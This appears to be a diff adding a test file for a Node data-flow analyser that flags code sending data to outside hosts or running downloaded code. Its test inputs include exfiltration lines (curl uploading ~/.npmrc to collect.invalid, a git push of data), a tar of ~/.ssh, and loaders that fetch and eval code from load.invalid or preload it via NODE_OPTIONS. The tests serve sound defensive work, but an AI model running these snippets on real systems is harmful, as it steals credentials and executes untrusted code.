@@ -1,0 +1,39 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+const SENT = 'credential-file>command-argument@collect.invalid';
+
+/** Commands that send, and how data gets to them. */
+const WAYS: readonly string[] = [
+  `cp.execSync('curl -T ~/.npmrc https://collect.invalid');`,
+  `const t = path.join(os.tmpdir(), 'z'); fs.writeFileSync(t, s); cp.execSync('curl -T ' + t + ' https://collect.invalid');`,
+  `cp.spawn('curl', ['-d', '@-', 'https://collect.invalid']).stdin.end(s);`,
+  `cp.execSync('curl -d @- https://collect.invalid', { input: s });`,
+  `const d = fs.mkdtempSync('/tmp/x'); fs.writeFileSync(d + '/a', s); cp.execSync('git add . && git push https://collect.invalid/x.git', { cwd: d });`,
+];
+
+describe('commands', () => {
+  for (const way of WAYS) {
+    it(`send what they are given by ${way}`, () => {
+      const flows = flowsOf(way);
+      assert.ok(flows.includes(SENT), flows.join('; '));
+    });
+  }
+
+  it('send nothing by reading what lies in a folder called .ssh', () => {
+    assert.deepEqual(flowsOf(`cp.execSync('tar cf /tmp/keys.tar ~/.ssh');`), []);
+  });
+
+  it('run the code that was put into a file for them', () => {
+    const load = `require('https').get('https://load.invalid', (r) => r.on('data', (d) => eval(String(d))));`;
+    const code = `fs.writeFileSync('/tmp/a.js', ${JSON.stringify(load)}); cp.spawn(process.execPath, ['/tmp/a.js']);`;
+    assert.ok(flowsOf(code).includes('downloaded>evaluated'));
+  });
+
+  it('load a downloaded file before the one they name', () => {
+    const fetched = `fetch('https://load.invalid').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/p.js', t);`;
+    for (const more of [`{ execArgv: ['-r', '/tmp/p.js'] }`, `{ env: { NODE_OPTIONS: '--require /tmp/p.js' } }`]) {
+      assert.ok(flowsOf(`${fetched} cp.fork('./x.js', [], ${more}); });`).includes('downloaded>loaded-as-module'));
+    }
+  });
+});
